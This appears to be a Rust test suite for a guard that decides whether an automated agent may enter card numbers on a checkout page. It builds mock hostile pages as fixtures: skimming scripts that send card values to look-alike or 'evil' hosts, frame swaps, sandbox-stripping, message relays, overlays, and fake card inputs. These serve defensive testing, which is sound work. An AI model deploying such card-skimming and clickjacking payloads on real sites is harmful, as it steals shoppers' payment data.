//! Hostile pages around, instead of and within the provider's frame. Each gets the number without the guard.

use crate::pages::{Page, all_fields, checkout, checkout_at, frame};
use crate::runs::{ALL, NUMBER, Paying, policy, unguarded};
use crate::stage::{EVIL, FRAME, LOOK_ALIKE, SHOP, Stage, TOKEN};

const CHECKOUT: &str = "https://till.test/checkout";

/// Pages whose frame is not that of the provider in the shop's page, and the reason of the refusal.
async fn is_refused(stage: &Stage, name: &str, pages: &[Page], thief: &str, reason: &str) {
    stage.world.serve(pages);
    unguarded(stage, CHECKOUT, thief).await;
    stage.world.serve(pages);
    let mut paying = Paying::begin(stage, &policy("frame top or provider")).await;
    paying.read_until("Card number").await;
    let answer = paying.ask(ALL).await;
    assert!(answer.starts_with("DENY.payment ") && answer.contains(reason), "{name}: {answer}");
    assert_eq!(paying.asked(), Vec::<String>::new(), "{name}: the user is not asked");
    let _clicked = paying.click("Place the order").await;
    paying.read().await;
    paying.finish().await;
    assert_eq!(stage.world.got(NUMBER), Vec::<String>::new(), "{name}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_frame_that_is_not_the_providers_gets_nothing() {
    let stage = Stage::set_up().await;
    // A look-alike sends what it gets home.
    let home = format!("fetch('https://{LOOK_ALIKE}/got', {{ method: 'POST', body: el.value }})");
    let pages = [checkout(&frame(LOOK_ALIKE, "/card", "")), all_fields(LOOK_ALIKE, &home)];
    is_refused(&stage, "a look-alike host", &pages, LOOK_ALIKE, "origin_mismatch").await;
    let allowed = "sandbox=\"allow-scripts allow-same-origin allow-forms\"";
    let pages = [checkout(&frame(FRAME, "/card", allowed)), all_fields(FRAME, "")];
    is_refused(&stage, "a sandbox", &pages, TOKEN, "origin_mismatch").await;
    // The attribute is gone by the time of the request, and the document is still held.
    let freed = "onload=\"this.removeAttribute('sandbox')\" sandbox=\"allow-scripts allow-same-origin\"";
    let pages = [checkout(&frame(FRAME, "/card", freed)), all_fields(FRAME, "")];
    is_refused(&stage, "a sandbox without its attribute", &pages, TOKEN, "origin_mismatch").await;
    let opaque = "sandbox=\"allow-scripts\"";
    let pages = [checkout(&frame(FRAME, "/card", opaque)), all_fields(FRAME, "")];
    is_refused(&stage, "an opaque origin", &pages, TOKEN, "signal_unknown:frame").await;
    // The frame in between could lie over the provider's.
    let inner = format!(
        "{}<script>addEventListener('message', (e) => (e.source === parent ? frames[0] : parent).postMessage(e.data, '*'));</script>",
        frame(FRAME, "/card", "")
    );
    let between: Page = (EVIL, "/between", inner);
    let pages = [checkout(&frame(EVIL, "/between", "height=300")), between, all_fields(FRAME, "")];
    is_refused(&stage, "a nested frame", &pages, TOKEN, "origin_mismatch").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_frame_of_the_provider_in_a_page_of_another_site_gets_nothing() {
    let stage = Stage::set_up().await;
    let pages = [checkout_at(EVIL, &frame(FRAME, "/card", "")), all_fields(FRAME, ""), checkout("")];
    stage.world.serve(&pages);
    unguarded(&stage, "https://evil.test/checkout", TOKEN).await;
    stage.world.serve(&pages);
    let mut paying = Paying::begin(&stage, &policy("frame top or provider")).await;
    let opened = paying.open(format!("https://{EVIL}/checkout")).await;
    assert!(opened.contains("outside_task"), "{opened}");
    let answer = paying.ask(ALL).await;
    assert!(answer.starts_with("DENY.payment "), "{answer}");
    paying.finish().await;
    assert_eq!(stage.world.got(NUMBER), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_frame_that_shows_another_document_after_the_question_gets_nothing() {
    let stage = Stage::set_up().await;
    let home = format!("fetch('https://{LOOK_ALIKE}/got', {{ method: 'POST', body: el.value }})");
    for other in [format!("https://{LOOK_ALIKE}/card"), format!("https://{FRAME}/other")] {
        let (_, _, body) = all_fields(FRAME, "");
        let swap = format!(
            "{}<script>const timer = setInterval(async () => {{
               if (await (await fetch('/signal')).text() !== 'go') return;
               clearInterval(timer);
               const inner = document.querySelector('iframe');
               inner.onload = () => fetch('/swapped');
               inner.src = '{other}';
             }}, 30);</script>",
            frame(FRAME, "/card", "")
        );
        let pages =
            [checkout(&swap), all_fields(FRAME, ""), all_fields(LOOK_ALIKE, &home), (FRAME, "/other", body)];
        stage.world.serve(&pages);
        let world = stage.world.clone();
        let swapped = move || {
            world.signal();
            world.wait_for(SHOP, "/swapped");
        };
        let policy = policy("frame top or provider");
        let mut paying = Paying::begin_with(&stage, &policy, Box::new(swapped)).await;
        paying.read_until("Card number").await;
        let answer = paying.ask(ALL).await;
        assert!(answer.starts_with("DENY.payment ") && answer.contains("stale_document"), "{answer}");
        assert_eq!(paying.asked().len(), 1);
        paying.finish().await;
        assert_eq!(stage.world.got(NUMBER), Vec::<String>::new(), "{other}");
    }
    // Without the guard the number goes to whatever the frame shows by then.
    let swap = format!(
        "{}<script>addEventListener('load', () => {{ document.querySelector('iframe').src = 'https://{LOOK_ALIKE}/card'; }})</script>",
        frame(FRAME, "/wait", "")
    );
    stage.world.serve(&[checkout(&swap), all_fields(LOOK_ALIKE, &home)]);
    unguarded(&stage, CHECKOUT, LOOK_ALIKE).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_number_that_the_frame_hands_to_the_shop_does_not_reach_the_shop() {
    let stage = Stage::set_up().await;
    let relay = format!(
        "{}<script>addEventListener('message', async (event) => {{
           if (!event.data.number) return;
           const number = event.data.number;
           const sends = [
             fetch('/stolen', {{ method: 'POST', body: 'n=' + number }}),
             fetch('/stolen?n=' + number.split('').join('-')),
             fetch('https://{EVIL}/stolen', {{ method: 'POST', mode: 'no-cors', body: number }}),
           ];
           await Promise.allSettled(sends);
           await fetch('/tried');
         }});</script>",
        frame(FRAME, "/card", "")
    );
    let hands = "if (el.id === 'number') parent.postMessage({ number: el.value }, '*')";
    let pages = [checkout(&relay), all_fields(FRAME, hands)];
    stage.world.serve(&pages);
    unguarded(&stage, CHECKOUT, SHOP).await;
    stage.world.serve(&pages);
    let mut paying = Paying::begin(&stage, &policy("frame top or provider")).await;
    paying.read_until("Card number").await;
    let answer = paying.ask(ALL).await;
    assert!(answer.starts_with("GRANT.payment "), "{answer}");
    paying.until(|| stage.world.has(SHOP, "/tried")).await;
    assert_eq!(paying.click("Place the order").await, "ok");
    paying.until(|| stage.world.has(SHOP, "/order")).await;
    paying.finish().await;
    assert_eq!(stage.world.got(NUMBER), [TOKEN]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_frame_under_something_of_the_shops_gets_nothing() {
    let stage = Stage::set_up().await;
    let over = |style: &str| {
        format!(
            "<div style=position:relative;width:430px>{}<div style=\"position:absolute;{style}\"></div></div>",
            frame(FRAME, "/card", "")
        )
    };
    // Nothing over it: the same page is filled.
    stage.world.serve(&[checkout(&over("left:0;top:200px;width:9px;height:9px")), all_fields(FRAME, "")]);
    let mut paying = Paying::begin(&stage, &policy("frame provider")).await;
    paying.read_until("Card number").await;
    let answer = paying.ask(ALL).await;
    assert!(answer.starts_with("GRANT.payment "), "{answer}");
    paying.finish().await;
    for style in
        ["inset:0;background:white", "inset:0", "left:80px;top:4px;width:120px;height:24px;background:#eee"]
    {
        stage.world.serve(&[checkout(&over(style)), all_fields(FRAME, "")]);
        let mut paying = Paying::begin(&stage, &policy("frame provider")).await;
        paying.read_until("Place the order").await;
        paying.until(|| stage.world.has(FRAME, "/card")).await;
        let answer = paying.ask(ALL).await;
        assert!(answer.starts_with("DENY.payment ") && answer.contains("occluded"), "{style}: {answer}");
        paying.finish().await;
        assert_eq!(stage.world.got(NUMBER), Vec::<String>::new(), "{style}");
    }
    for hides in ["style=opacity:0", "style=visibility:hidden", "style=pointer-events:none"] {
        stage.world.serve(&[checkout(&frame(FRAME, "/card", hides)), all_fields(FRAME, "")]);
        let mut paying = Paying::begin(&stage, &policy("frame provider")).await;
        paying.until(|| stage.world.has(FRAME, "/card")).await;
        let answer = paying.ask(ALL).await;
        assert!(answer.starts_with("DENY.payment "), "{hides}: {answer}");
        paying.finish().await;
        assert_eq!(stage.world.got(NUMBER), Vec::<String>::new(), "{hides}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_input_of_the_shops_that_looks_like_the_providers_gets_nothing() {
    let stage = Stage::set_up().await;
    let own = "<label>Card number <input autocomplete=cc-number onchange=\"fetch('/stolen', { method: 'POST', body: this.value })\"></label>\
        <label>Expiry <input autocomplete=cc-exp></label><label>Security code <input autocomplete=cc-csc></label>";
    // Beside the provider's frame, and instead of it.
    let beside = checkout(&format!("{own}{}", frame(FRAME, "/card", "")));
    stage.world.serve(&[beside.clone(), all_fields(FRAME, "")]);
    unguarded(&stage, CHECKOUT, SHOP).await;
    stage.world.serve(&[beside, all_fields(FRAME, "")]);
    let mut paying = Paying::begin(&stage, &policy("frame top or provider")).await;
    paying.until(|| stage.world.has(FRAME, "/card")).await;
    paying.read_until("Card number").await;
    let answer = paying.ask(ALL).await;
    assert!(answer.starts_with("GRANT.payment "), "{answer}");
    assert_eq!(paying.click("Place the order").await, "ok");
    paying.until(|| stage.world.has(SHOP, "/order")).await;
    paying.finish().await;
    assert_eq!(stage.world.got(NUMBER), [TOKEN]);
    stage.world.serve(&[checkout(own)]);
    let mut paying = Paying::begin(&stage, &policy("frame provider")).await;
    paying.read_until("Card number").await;
    let answer = paying.ask(ALL).await;
    assert!(answer.starts_with("DENY.payment "), "{answer}");
    assert_eq!(paying.asked(), Vec::<String>::new());
    paying.finish().await;
    assert_eq!(stage.world.got(NUMBER), Vec::<String>::new());
}
